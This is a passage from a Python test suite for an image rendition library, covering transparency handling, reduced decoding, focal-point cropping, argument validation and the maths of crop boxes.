        out = open_bytes(outputs[("w640", fmt)]).convert("RGBA")
        assert out.getpixel((320, 5))[3] < 20, fmt  # still transparent
        assert out.getpixel((320, 300))[3] > 240, fmt
    og = open_bytes(outputs[("og", "jpeg")])
    assert og.mode == "RGB"
    assert min(og.getpixel((600, 2))) > 235  # transparency flattened onto white


def test_large_transparent_png_master_takes_the_reduced_path(monkeypatch):
    # 4000 px wide and 1920 needed: decoded, box-reduced by 2, premultiplied once.
    im = Image.new("RGBA", (4000, 1000), (30, 140, 220, 255))
    im.paste((0, 0, 0, 0), (0, 0, 4000, 250))  # transparent top quarter
    master, info = make_master(encode(im, "PNG", compress_level=1))
    factors = []
    original_reduce = Image.Image.reduce

    def spy(self, factor, box=None):
        factors.append(factor)
        return original_reduce(self, factor, box)

    monkeypatch.setattr(Image.Image, "reduce", spy)
    # Plain widths only: a square crop would need 640 of the 1000 rows and forbid reducing.
    outputs = {
        (s.name, s.format): data
        for s, data in render_all(master, info, crops=())
        if s.name in ("w1920", "w320")
    }
    assert len(outputs) == 6
    for (name, fmt), data in outputs.items():
        out = open_bytes(data).convert("RGBA")
        assert out.size == ((1920, 480) if name == "w1920" else (320, 80))
        assert out.getpixel((out.width // 2, 5))[3] < 20, (name, fmt)
        r, g, b, a = out.getpixel((out.width // 2, out.height - 5))
        assert a > 240 and abs(r - 30) < 12 and abs(g - 140) < 12 and abs(b - 220) < 12, fmt
    assert factors[0] == 2  # our box reduction (Pillow may call reduce() internally too)


def test_focal_point_moves_the_crop():
    im = Image.new("RGB", (1600, 400), (255, 0, 0))
    im.paste((0, 0, 255), (800, 0, 1600, 400))  # left red, right blue
    master, info = make_master(encode(im, "PNG"))

    def square_centre(focal):
        outputs = render_all(master, info, focal=focal, crops=("square",))
        data = next(d for s, d in outputs if s.name == "square-w320" and s.format == "jpeg")
        return open_bytes(data).getpixel((160, 160))

    assert square_centre((0.1, 0.5))[0] > 200  # red
    assert square_centre((0.9, 0.5))[2] > 200  # blue


def test_draft_shrinks_decode_when_outputs_are_small(monkeypatch):
    master, info = make_master(encode(picture(4000, 2000), "JPEG", quality=90))
    decoded = []
    original = JpegImagePlugin.JpegImageFile.draft

    def spy(self, mode, size):
        result = original(self, mode, size)
        decoded.append(self.size)
        return result

    monkeypatch.setattr(JpegImagePlugin.JpegImageFile, "draft", spy)
    outputs = render_all(master, info, crops=("square",))
    assert decoded == [(2000, 1000)]  # half-scale DCT decode is enough for 1920 wide
    assert {open_bytes(d).size for s, d in outputs if s.name == "w1920"} == {(1920, 960)}


def test_iter_renditions_yields_the_same_set(jpeg_master):
    master, info = jpeg_master
    lazily = {s.key: len(d) > 0 for s, d in p.iter_renditions(master, info, crops=("og",))}
    assert set(lazily) == {s.key for s in rendition_specs(info.width, info.height, False, ("og",))}


def test_focal_change_can_redo_only_the_crops(jpeg_master):
    master, info = jpeg_master
    outputs = render_all(master, info, focal=(0.1, 0.1), crops=("card", "og"), widths=False)
    assert {s.crop for s, _ in outputs} == {"card", "og"}
    assert render_all(master, info, crops=(), widths=False) == []


def test_render_all_argument_checks(jpeg_master):
    master, info = jpeg_master
    with pytest.raises(ValueError, match="focal point"):
        render_all(master, info, focal=(1.2, 0.5))
    with pytest.raises(ValueError, match="focal point"):
        render_all(master, info, focal=(math.nan, 0.5))
    wrong = ImageInfo(info.format, info.mime, info.width + 1, info.height, False, False)
    with pytest.raises(ValueError, match="master is"):
        render_all(master, wrong)
    with pytest.raises(ImageRejected):
        render_all(b"not an image", info)


# --------------------------------------------------------------------------------------------
# crop_box maths
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("size", "ratio", "focal", "box"),
    [
        # Wide image, square crop: full height, slides horizontally.
        ((1600, 900), 1, (0.5, 0.5), (350, 0, 1250, 900)),
        ((1600, 900), 1, (0.0, 0.0), (0, 0, 900, 900)),
        ((1600, 900), 1, (1.0, 1.0), (700, 0, 1600, 900)),
        ((1600, 900), 1, (0.3, 0.9), (30, 0, 930, 900)),  # room to centre 480 exactly
        ((1600, 900), 1, (0.2, 0.5), (0, 0, 900, 900)),  # would start at -130: clamped
        # Tall image, 16:9 crop: full width, slides vertically.
        ((900, 1600), (16, 9), (0.5, 0.5), (0, 547, 900, 1053)),
        ((900, 1600), (16, 9), (0.0, 0.0), (0, 0, 900, 506)),
        ((900, 1600), (16, 9), (1.0, 1.0), (0, 1094, 900, 1600)),
        ((900, 1600), (16, 9), (0.5, 0.1), (0, 0, 900, 506)),
        # Image already at the ratio: the whole image, whatever the focal point.
        ((1600, 900), (16, 9), (0.9, 0.1), (0, 0, 1600, 900)),
        ((1200, 630), Fraction(1200, 630), (0.0, 1.0), (0, 0, 1200, 630)),
        # Poster 2:3 from landscape.
        ((3000, 2000), (2, 3), (0.75, 0.5), (1584, 0, 2917, 2000)),  # 2250 - 666.5, half up
        # Tiny images.
        ((1, 1), 1, (0.5, 0.5), (0, 0, 1, 1)),
        ((1, 1), (16, 9), (1.0, 1.0), (0, 0, 1, 1)),
        ((3, 1), 1, (1.0, 0.5), (2, 0, 3, 1)),
        ((1, 3), (16, 9), (0.5, 1.0), (0, 2, 1, 3)),
        ((2, 2), (2, 3), (0.0, 0.0), (0, 0, 1, 2)),
    ],
)
def test_crop_box(size, ratio, focal, box):
    assert crop_box(*size, ratio, focal) == box


def test_crop_box_default_focal_is_centre():
    assert crop_box(1600, 900, 1) == crop_box(1600, 900, 1, (0.5, 0.5))


def test_crop_box_accepts_ratio_as_float_tuple_or_fraction():
    assert crop_box(1000, 1000, 16 / 9) == crop_box(1000, 1000, (16, 9))
    assert crop_box(1000, 1000, Fraction(16, 9)) == (0, 219, 1000, 782)  # 562.5 rounds up


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ((0, 10, 1, (0.5, 0.5)), "image size"),
        ((10, 10, 0, (0.5, 0.5)), "ratio must be positive"),
        ((10, 10, math.inf, (0.5, 0.5)), "ratio must be finite"),
        ((10, 10, 1, (-0.1, 0.5)), "focal point"),
        ((10, 10, 1, (0.5, math.nan)), "focal point"),
    ],
)
def test_crop_box_rejects_nonsense(args, message):
    with pytest.raises(ValueError, match=message):
        crop_box(*args)


def test_crop_box_properties_hold_everywhere():
    rng = random.Random(7)
    ratios = [Fraction(16, 9), Fraction(1), Fraction(2, 3), Fraction(1200, 630), Fraction(10, 1)]
    for _ in range(3000):
        w, h = rng.randint(1, 5000), rng.randint(1, 5000)
        r = rng.choice(ratios)
        fx, fy = rng.random(), rng.random()
        left, top, right, bottom = crop_box(w, h, r, (fx, fy))
        bw, bh = right - left, bottom - top
        # Inside the image, non-empty, and as large as the ratio allows (touches two sides).
        assert 0 <= left < right <= w and 0 <= top < bottom <= h
        assert bw == w or bh == h
        # The ratio is honoured to within rounding of one pixel.
        if bw > 1 and bh > 1:
            assert abs(bw - bh * r) <= 1 or abs(bh - bw / r) <= 1
        # The focal point is as central as the bounds allow: either centred (±1 px) or the
        # box is pushed against the edge it would otherwise cross.
        for focus, start, size, total in ((fx * w, left, bw, w), (fy * h, top, bh, h)):
            centred = abs(start + size / 2 - focus) <= 1
            assert centred or start == 0 or start + size == total
